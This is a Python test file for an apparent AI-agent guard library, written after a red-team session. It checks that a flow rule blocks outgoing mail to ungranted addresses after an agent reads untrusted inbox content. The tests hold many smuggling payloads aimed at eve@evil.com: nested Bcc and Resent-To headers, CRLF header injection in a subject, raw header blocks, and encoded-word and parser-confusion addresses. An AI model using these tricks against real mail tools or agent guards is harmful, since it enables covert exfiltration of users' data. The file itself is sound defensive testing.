"""Flow rules read recipients wherever a mail tool reads them (session 19 red team).

A mail tool builds a message from its arguments and the mail library sends it to every address in the To, Cc and
Bcc headers (``smtplib.SMTP.send_message``), so ``{"to": "a@example.com", "headers": {"Bcc": "eve@evil.com"}}``
mails eve. The guard used to read only the top-level recipient arguments and allowed it. The oracle here is a
mail tool as people write one, sent through the real ``smtplib.send_message`` with the network call captured."""

from __future__ import annotations

import json
import smtplib
from email.message import EmailMessage
from typing import Any

from hypothesis import given, settings
from hypothesis import strategies as st

from agentguard.core.types import Context, Decision, Step, ToolCall, Trace
from agentguard.policies import FlowGuard, FlowRule
from agentguard.policies.flow import recipient_values

GRANTED = ["a@example.com", "B@Example.com", "mailto:c@example.com"]
EVIL = ["eve@evil.com", "Eve <eve@evil.com>", "x@example.com.evil.com"]
RULE = FlowRule(name="inbox-then-mail", after="read_*", label="untrusted", then="send_*",
                recipients=["to", "cc", "bcc"], grant=["*@example.com"])


def decide(args: dict[str, Any]) -> Decision:
    ctx = Context(run_id="r", trace=Trace(run_id="r"))
    ctx.trace.append(Step(action=ToolCall("read_inbox", {}), observation="a mail from outside"))
    return FlowGuard([RULE]).check(ctx, ToolCall("send_email", args)).decision


class _Captured(smtplib.SMTP):
    """``smtplib.SMTP`` without a connection: ``sendmail`` keeps the envelope recipients send_message chose."""

    def __init__(self) -> None:  # noqa: D107 - no connection
        self.to: list[str] = []

    def ehlo_or_helo_if_needed(self) -> None:
        return None

    def has_extn(self, opt: str) -> bool:
        return True

    def sendmail(self, from_addr: Any, to_addrs: Any, msg: Any, mail_options: Any = (), rcpt_options: Any = ()) -> dict:
        self.to = [to_addrs] if isinstance(to_addrs, str) else list(to_addrs)
        return {}


def mail_tool(to: Any = None, cc: Any = None, bcc: Any = None, headers: Any = None, body: str = "",
              **_: Any) -> list[str]:
    """A mail tool as people write one: headers from its recipient arguments and a ``headers`` mapping (or a JSON
    text of one), sent with ``send_message``; returns the envelope recipients."""
    msg = EmailMessage()
    msg["From"] = "me@example.com"
    for name, value in (("To", to), ("Cc", cc), ("Bcc", bcc)):
        if value:
            msg[name] = ", ".join(value) if isinstance(value, list) else value
    extra = json.loads(headers) if isinstance(headers, str) else (headers or {})
    for name, value in extra.items():
        msg[name] = value
    msg.set_content(body or "hi")
    smtp = _Captured()
    smtp.send_message(msg)
    return smtp.to


def _bare(address: str) -> str:
    return address.split("<")[-1].rstrip(">").removeprefix("mailto:").strip().lower()


def test_a_recipient_header_nested_in_the_arguments_is_read():
    for args in [{"to": "a@example.com", "headers": {"Bcc": "eve@evil.com"}},
                 {"to": "a@example.com", "headers": {"CC": ["eve@evil.com"]}},
                 {"to": "a@example.com", "headers": json.dumps({"bcc": "eve@evil.com"})},
                 {"to": "a@example.com", "message": {"meta": [{"Bcc": "eve@evil.com"}]}},
                 {"to": "a@example.com", "headers": {"Resent-Date": "Fri, 27 Nov 2026 12:00:00 +0000",
                                                     "Resent-To": "eve@evil.com"}},
                 {"to": "a@example.com", "subject": "hi\r\nBcc: eve@evil.com"},
                 {"to": "a@example.com", "raw": "From: me@example.com\nTo: a@example.com\nCC:eve@evil.com\n\nhi"}]:
        assert decide(args) is Decision.REJECT, args
    sent = mail_tool(to="a@example.com", headers={"Bcc": "eve@evil.com"})
    assert "eve@evil.com" in sent  # the oracle: the real library mails eve
    resent = mail_tool(to="a@example.com", headers={"Resent-Date": "Fri, 27 Nov 2026 12:00:00 +0000",
                                                    "Resent-To": "eve@evil.com"})
    assert resent == ["eve@evil.com"]  # a Resent- block replaces the recipients


def test_granted_recipients_anywhere_pass():
    assert decide({"to": "a@example.com", "headers": {"Cc": "b@example.com"}}) is Decision.ALLOW
    assert decide({"message": {"to": ["a@example.com", {"cc": "c@example.com"}]}}) is Decision.ALLOW
    assert recipient_values({"to": "a", "x": {"Bcc": "b"}}, frozenset({"to", "bcc"})) in (["a", "b"], ["b", "a"])


def test_recipients_nested_too_deep_are_outside_the_grant():
    deep: Any = "a@example.com"
    for _ in range(12):
        deep = {"wrap": deep}
    assert decide({"to": "a@example.com", "x": {"to": deep}}) is Decision.REJECT


header_names = st.sampled_from(["To", "to", "CC", "Cc", "bcc", "BCC", "Bcc", "Resent-To", "Resent-Cc", "resent-bcc"])
addresses = st.sampled_from(GRANTED + EVIL)


@settings(max_examples=150, deadline=None)
@given(to=addresses, extra=st.dictionaries(header_names, addresses, max_size=3), as_json=st.booleans())
def test_an_allowed_mail_reaches_only_granted_recipients(to: str, extra: dict[str, str], as_json: bool) -> None:
    """Differential property: whatever headers the arguments carry, if the guard allows the call, every address the
    real mail library sends to is granted."""
    # one header of each name (EmailMessage refuses a second To): keep the last spelling of each
    headers = {k.title(): v for k, v in extra.items() if k.lower() != "to"}
    if any(k.startswith("Resent") for k in headers):
        headers["Resent-Date"] = "Fri, 27 Nov 2026 12:00:00 +0000"
    args = {"to": to, "headers": json.dumps(headers) if as_json else headers}
    if decide(args) is Decision.ALLOW:
        sent = mail_tool(**args)
        assert all(_bare(a).endswith("@example.com") and _bare(a).count("@") == 1 for a in sent), (args, sent)


def test_header_lines_without_an_address_are_text():
    assert decide({"to": "a@example.com", "body": "Hi,\nTo: whom it may concern\nCc: the team\n"}) is Decision.ALLOW
    assert decide({"to": "a@example.com", "body": "Hi,\nTo: bob@partner.com\n"}) is Decision.REJECT  # stated cost


def test_header_lines_inside_json_texts_are_read():
    raw = json.dumps({"raw": "From: me@example.com\nTo: a@example.com\nBcc: eve@evil.com\n\nhi"})
    assert decide({"to": "a@example.com", "options": raw}) is Decision.REJECT
    assert decide({"to": "a@example.com", "options": json.dumps({"wrapped": raw})}) is Decision.REJECT
    assert decide({"to": "a@example.com", "attachments": ["notes\nBcc: eve@evil.com"]}) is Decision.REJECT


def test_a_recipient_is_read_as_the_mail_library_parses_the_header():
    """The text matched the grant glob but the library mails someone else: an RFC 2047 encoded word it decodes, a
    bracket that ends the address for its parser, a comment that swallows the rest."""
    for to in ["=?utf-8?q?eve=40evil.com?=\\a@example.com", "eve[a@example.com", "=?utf-8?b?ZXZlQGV2aWwuY29t?=",
               "\t\\\\:(a@example.com", "%.!<(a@example.com"]:
        assert decide({"to": to}) is Decision.REJECT, to
        assert any(not _bare(a).endswith("@example.com") for a in mail_tool(to=to) if a.strip()), to
    for to in ["a@example.com", "Alice <a@example.com>", "a@example.com; b@example.com",
               "=?utf-8?q?Alice?= <a@example.com>", "mailto:a@example.com", "A@EXAMPLE.COM"]:
        assert decide({"to": to}) is Decision.ALLOW, to
    # a quoted display name with a comma is also split as a plain list is (mailers differ): refused, a stated cost
    assert decide({"to": '"Doe, J" <a@example.com>'}) is Decision.REJECT


_TOKENS = ["a@example.com", "eve@evil.com", "evil.com", "example.com", "@", "<", ">", '"', "(", ")", ",", ";", ":",
           " ", "\\", "eve", "a", ".", "mailto:", "\t", "=?utf-8?q?eve=40evil.com?=", "=?utf-8?b?ZXZl?=", "%", "[", "]"]


@settings(max_examples=400, deadline=None)
@given(st.lists(st.sampled_from(_TOKENS), min_size=1, max_size=7))
def test_an_allowed_to_header_mails_only_the_granted_domain(tokens: list[str]) -> None:
    """Differential property over header syntax (quotes, comments, groups, encoded words, brackets): if the guard
    allows ``{"to": text}``, every non-empty address the real ``send_message`` mails is at example.com."""
    to = "".join(tokens)
    try:
        sent = mail_tool(to=to)
    except Exception:  # noqa: BLE001 - the library refuses the header: nothing is sent
        return
    if decide({"to": to}) is Decision.ALLOW:
        wrong = [a for a in sent if a.strip() and not (a.strip().lower().endswith("@example.com")
                                                       and a.count("@") == 1)]
        assert not wrong, (to, sent)
